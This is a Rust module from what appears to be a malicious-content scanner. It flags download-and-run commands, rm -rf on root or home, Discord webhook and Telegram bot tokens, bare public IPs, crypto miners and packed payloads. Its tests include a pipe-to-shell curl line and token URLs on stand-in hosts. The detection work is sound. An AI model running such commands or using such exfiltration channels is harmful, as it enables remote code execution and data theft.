//! What a text speaks of: one table of telling phrases, and a few shapes that no phrase describes.
//!
//! A phrase is compared without regard to case, anywhere in the text. Addresses are compared as part of a host's name, so
//! that `webhook.site.invalid` is told as well as `webhook.site`.

mod phrases;

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};

use self::phrases::PHRASES;
use super::traits::Traits;

/// Texts are looked at up to here, in bytes.
const MOST: usize = 1 << 20;
/// What is needed to write as a bot has a number and a key, and is never shorter, in bytes.
const SHORTEST_TOKEN: usize = 28;
/// A literal from here on may be a packed program, in bytes.
const PACKED_FROM: usize = 600;

struct Table {
    phrases: AhoCorasick,
    says: Vec<Traits>,
}

static TABLE: LazyLock<Option<Table>> = LazyLock::new(table);

/// What the lines of a text say, each by itself. Hardly any line says anything, so only those are looked at that have a phrase,
/// or begin with a digit, as a token may.
pub(super) fn of_lines(bytes: &[u8]) -> Traits {
    let Some(table) = TABLE.as_ref() else { return Traits::NONE };
    let mut said = Traits::NONE;
    let mut look = |line: &[u8]| said |= of(&String::from_utf8_lossy(line.strip_suffix(b"\r").unwrap_or(line)));
    let ends = memchr::memchr_iter(b'\n', bytes).chain([bytes.len()]);
    let mut start = 0;
    for end in ends {
        if bytes.get(start).is_some_and(u8::is_ascii_digit) {
            look(bytes.get(start..end).unwrap_or_default());
        }
        start = end + 1;
    }
    let mut from = 0;
    while let Some(one) = bytes.get(from..).and_then(|rest| table.phrases.find(rest)) {
        let (begin, end) = around(bytes, from + one.start());
        look(bytes.get(begin..end).unwrap_or_default());
        from = end;
    }
    said
}

/// Where the line begins and ends that a place is in.
fn around(bytes: &[u8], at: usize) -> (usize, usize) {
    let begin = bytes.get(..at).and_then(|before| memchr::memrchr(b'\n', before)).map_or(0, |end| end + 1);
    let end = bytes.get(at..).and_then(|rest| memchr::memchr(b'\n', rest)).map_or(bytes.len(), |end| at + end);
    (begin, end)
}

/// What a text says by itself.
pub(super) fn of(text: &str) -> Traits {
    let Some(table) = TABLE.as_ref() else { return Traits::NONE };
    if text.len() < 4 {
        return Traits::NONE;
    }
    let bytes = text.as_bytes();
    let bytes = bytes.get(..MOST).unwrap_or(bytes);
    let mut found = Traits::NONE;
    for one in table.phrases.find_overlapping_iter(bytes) {
        found |= table.says.get(one.pattern().as_usize()).copied().unwrap_or_default();
    }
    let may_hold = found.any(Traits::BEFORE_TOKEN) || bytes.first().is_some_and(u8::is_ascii_digit);
    found = doubtful(text, found.without(Traits::BEFORE_TOKEN));
    if names_no_host(text) {
        found |= Traits::ADDRESS;
    }
    if may_hold && holds_token(text) {
        found |= Traits::CHANNEL_TOKEN | Traits::CHANNEL;
    }
    if is_packed(text) {
        found |= Traits::PACKED;
    }
    found
}

fn table() -> Option<Table> {
    let rows = || PHRASES.iter().flat_map(|(says, phrases)| phrases.iter().map(|phrase| (*phrase, *says)));
    let phrases = AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .kind(Some(AhoCorasickKind::DFA))
        .build(rows().map(|(phrase, _)| phrase))
        .ok()?;
    Some(Table { phrases, says: rows().map(|(_, says)| says).collect() })
}

/// Takes back what a phrase says only together with something else.
fn doubtful(text: &str, found: Traits) -> Traits {
    let mut found = found;
    let fetches = || ["curl", "wget", "powershell", "iwr", "http", "fetch"].iter().any(|word| contains(text, word));
    if found.any(Traits::DOWNLOAD) && !fetches() {
        found = found.without(Traits::DOWNLOAD);
    }
    if found.any(Traits::DESTRUCTIVE) && !destroys_all(text) {
        found = found.without(Traits::DESTRUCTIVE);
    }
    // Prose about a service is no address of it.
    if found.any(Traits::CHANNEL) && text.contains(' ') && !text.contains("://") {
        found = found.without(Traits::CHANNEL);
    }
    found
}

/// Whether a command that deletes is about everything, and not about a folder that it names.
fn destroys_all(text: &str) -> bool {
    let Some((_, target)) = text.split_once("rm -rf ").or_else(|| text.split_once("rm -fr ")) else { return true };
    let target =
        target.trim_start_matches("--no-preserve-root ").split([' ', ';', '&', '|']).next().unwrap_or_default();
    matches!(target.trim_end_matches('*').trim_end_matches('/'), "" | "~" | "$HOME")
}

fn contains(text: &str, word: &str) -> bool {
    text.as_bytes().windows(word.len()).any(|window| window.eq_ignore_ascii_case(word.as_bytes()))
}

/// Whether the text is an address, or begins with one behind `://`, that a public machine has and no name stands for.
fn names_no_host(text: &str) -> bool {
    let rest = text.split_once("://").map_or(text, |(_, rest)| rest);
    if !rest.starts_with(|c: char| c == '+' || c.is_ascii_digit()) {
        return false;
    }
    let behind_scheme = rest.len() < text.len();
    let host: &str = rest.split(['/', ':', '?', '#']).next().unwrap_or_default();
    if !behind_scheme && host.len() < rest.len() && !rest.starts_with(&format!("{host}:")) {
        return false;
    }
    let parts: Vec<Option<u8>> = host.split('.').map(|part| part.parse::<u8>().ok()).collect();
    match parts.as_slice() {
        [Some(a), Some(b), Some(c), Some(d)] => is_public(*a, *b, *c, *d),
        _ => false,
    }
}

/// Whether a machine of somebody else may have the address. Those of name servers that all know are none.
fn is_public(a: u8, b: u8, c: u8, d: u8) -> bool {
    let private = matches!((a, b), (0 | 10 | 127 | 224..=255, _) | (172, 16..=31) | (192, 168) | (169, 254));
    let known = matches!((a, b, c, d), (8, 8, 8, 8) | (8, 8, 4, 4) | (1, 1, 1, 1) | (1, 0, 0, 1) | (9, 9, 9, 9));
    // What looks like a version, such as `1.2.3.4`, is none either.
    let version = a < 20 && b < 20 && c < 20 && d < 20;
    !(private || known || version)
}

/// Whether what is needed to write to a webhook or as a bot stands in the text.
fn holds_token(text: &str) -> bool {
    if text.len() < SHORTEST_TOKEN {
        return false;
    }
    let webhook = text.split_once("/api/webhooks/").is_some_and(|(_, rest)| {
        let (number, token) = rest.split_once('/').unwrap_or((rest, ""));
        number.len() >= 6 && number.bytes().all(|byte| byte.is_ascii_digit()) && token.len() >= 8
    });
    let bot = text.split("/bot").skip(1).chain(std::iter::once(text)).any(|rest| {
        let (number, token) = rest.split_once(':').unwrap_or((rest, ""));
        let token = token.split('/').next().unwrap_or_default();
        (8..=11).contains(&number.len())
            && number.bytes().all(|byte| byte.is_ascii_digit())
            && token.len() >= 20
            && token.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-')
    });
    webhook || bot
}

/// Whether a long text has neither blanks nor the repetition of anything that people write.
pub(super) fn is_packed(text: &str) -> bool {
    if text.len() < PACKED_FROM {
        return false;
    }
    let sample = text.as_bytes().get(..4096).unwrap_or(text.as_bytes());
    let blanks = sample.iter().filter(|byte| byte.is_ascii_whitespace()).count();
    if blanks * 40 > sample.len() {
        return false;
    }
    entropy(sample) > 4.6 || is_hexadecimal(sample)
}

/// Whether it is a run of hexadecimal digits or escapes, of which more than eight differ.
fn is_hexadecimal(bytes: &[u8]) -> bool {
    let mut seen = [false; 256];
    for byte in bytes {
        if !(byte.is_ascii_hexdigit() || matches!(byte, b'\\' | b'x')) {
            return false;
        }
        if let Some(cell) = seen.get_mut(usize::from(*byte)) {
            *cell = true;
        }
    }
    seen.iter().filter(|cell| **cell).count() > 8
}

/// Shannon's entropy, in bits a byte.
fn entropy(bytes: &[u8]) -> f64 {
    let mut counts = [0_u32; 256];
    for byte in bytes {
        if let Some(count) = counts.get_mut(usize::from(*byte)) {
            *count += 1;
        }
    }
    let all = bytes.len() as f64;
    counts
        .iter()
        .filter(|count| **count > 0)
        .map(|count| f64::from(*count) / all)
        .map(|share| -share * share.log2())
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_public_machine_without_a_name_is_told_from_versions_and_private_ones() {
        for text in ["http://192.0.2.7/a", "192.0.2.7", "192.0.2.7:4444", "tcp://203.0.113.9:1337/x"] {
            assert!(of(text).any(Traits::ADDRESS), "{text}");
        }
        for text in
            ["1.2.3.4", "127.0.0.1", "http://10.0.0.1/", "8.8.8.8", "192.168.1.1", "version 192.0.2.7 is", "300.1.1.1"]
        {
            assert!(!of(text).any(Traits::ADDRESS), "{text}");
        }
    }

    #[test]
    fn channels_are_told_by_address_and_by_token() {
        assert!(
            of("https://discord.com.invalid/api/webhooks/123456789/abcdefgh")
                .all(Traits::CHANNEL | Traits::CHANNEL_TOKEN)
        );
        assert!(of("https://discord.com.invalid/api").any(Traits::CHANNEL));
        assert!(!of("https://discord.com.invalid/api").any(Traits::CHANNEL_TOKEN));
        assert!(
            of("https://x.invalid/bot123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage").any(Traits::CHANNEL_TOKEN)
        );
        assert!(!of("Join us on discord.com for a talk").any(Traits::CHANNEL));
    }

    #[test]
    fn lines_say_what_each_says_by_itself() {
        let lines =
            ["curl http://a.invalid | sh", "", "1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAA", "xmrig and xmrig", "a.npmrc"];
        for ending in ["\n", "\r\n"] {
            let text = lines.join(ending);
            let all = lines.iter().fold(Traits::NONE, |all, line| all | of(line));
            assert_eq!(of_lines(text.as_bytes()), all);
            assert!(all.all(Traits::DOWNLOAD | Traits::CHANNEL_TOKEN | Traits::MINING | Traits::PUBLISHER));
        }
        assert!(of_lines(b"").is_none() && of_lines(b"\n\nnothing\n").is_none());
    }

    #[test]
    fn packed_text_is_told_from_prose_and_rulers() {
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let base64: String = (0..900_usize).map(|n| char::from(alphabet[n * n * 37 % 61])).collect();
        assert!(is_packed(&base64));
        assert!(!is_packed(&"-".repeat(5_000)));
        assert!(!is_packed(&"All work and no play makes a dull text. ".repeat(100)));
    }
}
